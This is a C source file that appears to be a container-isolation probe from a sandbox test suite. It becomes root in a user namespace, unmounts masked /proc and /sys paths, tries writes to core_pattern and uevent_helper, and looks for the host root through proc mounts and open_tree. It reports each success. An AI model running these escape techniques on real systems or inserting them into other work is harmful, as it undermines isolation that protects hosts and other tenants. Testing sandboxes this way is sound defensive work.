// Becomes root of a user namespace of its own, and mounts, unmounts and writes there.
#include "attack.h"

static void control(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0 && write(fd, text, strlen(text)) < 0) { }
    close(fd);
}

static void try_writing(const char *path) {
    char value[4096];
    int fd = open(path, O_RDONLY);
    ssize_t count = fd < 0 ? -1 : read(fd, value, sizeof value);
    close(fd);
    fd = open(path, O_WRONLY);
    if (fd >= 0 && count > 0 && write(fd, value, (size_t)count) == count)
        REACHED("wrote %s", path);
    close(fd);
}

int main(void) {
    char map[64];
    uid_t uid = getuid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        return over();
    control("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "0 %d 1", uid);
    control("/proc/self/uid_map", map);
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    const char *covered[] = { "/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sys", "/proc/sysrq-trigger", "/sys/firmware", "/proc", "/sys", "/dev", "/etc/hosts" };
    for (size_t i = 0; i < sizeof covered / sizeof *covered; i++)
        if (umount2(covered[i], MNT_DETACH) == 0)
            REACHED("uncovered %s", covered[i]);
    if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        try_writing("/proc/sys/kernel/core_pattern");
    if (mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        try_writing("/sys/kernel/uevent_helper");
    mkdir("/tmp/proc", 0755);
    if (fork() == 0) {
        if (unshare(CLONE_NEWPID) == 0 && fork() == 0) {
            if (mount("proc", "/tmp/proc", "proc", 0, NULL) == 0) {
                try_writing("/tmp/proc/sys/kernel/core_pattern");
                try_writing("/tmp/proc/sys/vm/swappiness");
                show_outside("/tmp/proc/1/root");
            }
            if (mount("sysfs", "/tmp/proc", "sysfs", 0, NULL) == 0)
                try_writing("/tmp/proc/kernel/uevent_helper");
            _exit(0);
        }
        wait(NULL);
        _exit(0);
    }
    wait(NULL);
    if (mount("/", "/tmp/proc", NULL, MS_BIND | MS_REC, NULL) == 0)
        show_outside("/tmp/proc/..");
    int tree = (int)syscall(428 /* open_tree */, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */);
    if (tree >= 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d/..", tree);
        show_outside(path);
    }
    return over();
}
